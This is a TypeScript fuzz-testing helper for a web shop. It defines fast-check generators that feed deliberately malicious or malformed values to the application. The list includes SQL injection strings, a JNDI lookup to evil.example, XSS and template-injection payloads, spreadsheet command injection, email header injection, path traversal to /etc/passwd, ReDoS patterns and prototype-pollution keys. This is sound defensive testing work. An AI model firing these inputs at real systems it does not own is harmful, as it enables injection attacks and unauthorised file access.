// Values that no honest page sends. Each of them has broken some program.
import fc from 'fast-check'

/** Placeholders for things that exist (world.ts), because random ids alone are always refused. */
export const knownNames = [
  '{{product}}',
  '{{slug}}',
  '{{category}}',
  '{{order}}',
  '{{paidOrder}}',
  '{{payment}}',
  '{{buyer}}',
  '{{email}}',
  '{{password}}',
  '{{deep}}',
] as const

export const nastyTexts = [
  '',
  ' ',
  '\0',
  'before\0after',
  '\ud800',
  '\udc00 lone',
  '\ufffe\uffff',
  '\u202e\u2066\u200b\ufeff',
  '🍎'.repeat(300),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  'x'.repeat(201),
  'x'.repeat(20_000),
  "' or 1=1; drop table users; --",
  "\\'; select pg_sleep(10); --",
  '%_\\%',
  '$1 ${jndi:ldap://evil.example/a} {{7*7}} #{7*7}',
  '<script>window.__pwned=1</script>',
  '"><img src=x onerror=window.__pwned=1>',
  '</script><script>window.__pwned=1</script>',
  'javascript:window.__pwned=1',
  '=cmd|"/c calc"!A1',
  '+1\t@SUM(1+1)',
  'a\r\nBcc: all@evil.example\r\n\r\nbody',
  '\u2028\u2029\u0085',
  '\u001b[31mred\u001b[0m {"level":60}',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  'C:\\windows\\win.ini',
  '//evil.example',
  'https://evil.example/x.png',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'true',
  'NaN',
  '-0',
  '1e309',
  '0x10',
  '١٢٣',
  '99999999999999999999999999',
  '0.1.2',
  '1970-01-01T00:00:00Z',
  '2024-13-45T99:99:99+99:99',
  '00000000-0000-0000-0000-000000000000',
  '018f7d3c-0000-7000-8000-000000000000',
  '{018F7D3C-0000-7000-8000-000000000000}',
  'a@b.example',
  '"very odd"@b.example',
  'x'.repeat(300) + '@b.example',
  'FOODLAND',
  'allProducts',
  'Mars/Nowhere',
  '(a+)+$',
  'a'.repeat(5000) + '!',
  '('.repeat(3000),
] as const

const nastyNumbers = [
  0,
  -0,
  -1,
  1,
  2,
  5,
  0.1,
  1.005,
  1e-7,
  99.999,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  2 ** 63,
  1e21,
  Number.MAX_VALUE,
] as const

export const pollution = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then'] as const

export const anyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...nastyTexts) },
  { weight: 3, arbitrary: fc.constantFrom(...knownNames) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
)

export const anyNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(...nastyNumbers),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
)

/** Any shallow JSON, with dangerous names of fields. */
export const anything: fc.Arbitrary<unknown> = fc.oneof(
  anyText,
  anyNumber,
  fc.constantFrom(null, true, false, [], {}, [[[]]], [null]),
  fc.array(fc.oneof(anyText, anyNumber), { maxLength: 5 }),
  fc.dictionary(fc.oneof(fc.constantFrom(...pollution), anyText), fc.oneof(anyText, anyNumber), { maxKeys: 3 }),
)
